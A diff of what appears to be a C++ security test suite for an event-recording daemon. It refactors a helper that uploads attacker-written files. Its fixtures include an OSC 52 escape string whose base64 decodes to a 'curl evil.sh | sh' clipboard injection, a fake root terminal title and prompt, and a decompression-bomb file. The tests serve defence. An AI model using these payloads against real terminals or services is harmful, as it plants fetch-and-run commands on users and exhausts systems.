@@ -143,43 +143,6 @@ std::string AmplifyingBin(const std::string& struct_name, const std::vector<std:
   return b;
 }
 
-// In the attacker: an event of `kind` holding `files` (name form and content), written
-// through FILE_APPEND. "" or why not.
-struct UserFile {
-  proto::FileOpen open;
-  std::string content;
-};
-std::string WriteEvent(RawClient& c, uint32_t event_id, uint8_t kind, std::vector<UserFile> files) {
-  auto ok = [](const std::optional<RawReply>& r) { return r && r->status == 0; };
-  if (!ok(c.Call(ATR_OP_EVENT_BEGIN, Payload(BeginRequest(event_id, kind))))) return "begin refused";
-  uint32_t file_id = event_id * 100;
-  for (auto& f : files) {
-    f.open.event_id = event_id;
-    f.open.file_id = ++file_id;
-    if (!ok(c.Call(ATR_OP_FILE_OPEN, Payload(f.open)))) return "open refused";
-    for (size_t at = 0; at < f.content.size(); at += 256 * 1024) {
-      proto::FileAppend a;
-      a.file_id = file_id;
-      const std::string piece = f.content.substr(at, 256 * 1024);
-      a.data = {reinterpret_cast<const uint8_t*>(piece.data()), piece.size()};
-      auto r = c.Call(ATR_OP_FILE_APPEND, Payload(a));
-      if (!ok(r)) return "append refused: " + (r ? r->message : std::string("no reply"));
-    }
-    if (!ok(c.Call(ATR_OP_FILE_CLOSE, Payload(proto::IdRequest{file_id})))) return "close refused";
-  }
-  if (!ok(c.Call(ATR_OP_EVENT_END, Payload(proto::IdRequest{event_id})))) return "end refused";
-  return "";
-}
-
-proto::FileOpen StackcoreForm(const std::string& program) {
-  proto::FileOpen o;
-  o.form = ATR_FILE_STACKCORE;
-  o.signo = 11;
-  o.tid = 1;
-  o.name = program;
-  return o;
-}
-
 const std::string kOsc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";  // writes the clipboard
 const std::string kClear = "\x1b[2J\x1b[H";
 const std::string kTitle = "\x1b]0;root@host\x07";
@@ -204,7 +167,7 @@ TEST_CASE("attack: escapes in records, .bin names and a user-written stackcore f
                                kFakePrompt + "\n\n[stack]\nThread 1 (LWP 1):\n#0 0x1 in evil" + kOsc52 + "\n";
     std::string why = WriteEvent(*c, 1, ATR_EVENT_SCHEDULE,
                                  {{ObjectFileRequest(0, 0, "hostile"), records}, {ObjectFileRequest(0, 0, "names", true), bin}});
-    if (why.empty()) why = WriteEvent(*c, 2, ATR_EVENT_STACKCORE, {{StackcoreForm("sshd"), report}});
+    if (why.empty()) why = WriteEvent(*c, 2, ATR_EVENT_STACKCORE, {{StackcoreFileRequest("sshd"), report}});
     Report(out, why.empty() ? 0 : 1, why.empty() ? std::to_string(::getpid()) : why);
   });
   const std::string line = attacker.Line();
@@ -272,7 +235,7 @@ TEST_CASE("attack: a .bin that decodes to 1000 times its size: show and export s
   Attacker attacker([&d, &bin](int out, int) {
     auto c = RawClient::Connect(d.socket());
     if (!c || !c->Hello()) ::_exit(91);
-    std::vector<UserFile> files;
+    std::vector<EventFile> files;
     for (int i = 0; i < kFiles; ++i) files.push_back({ObjectFileRequest(0, 0, "amp" + std::to_string(i), true), bin});
     const std::string why = WriteEvent(*c, 1, ATR_EVENT_SCHEDULE, files);
     Report(out, why.empty() ? 0 : 1, why);
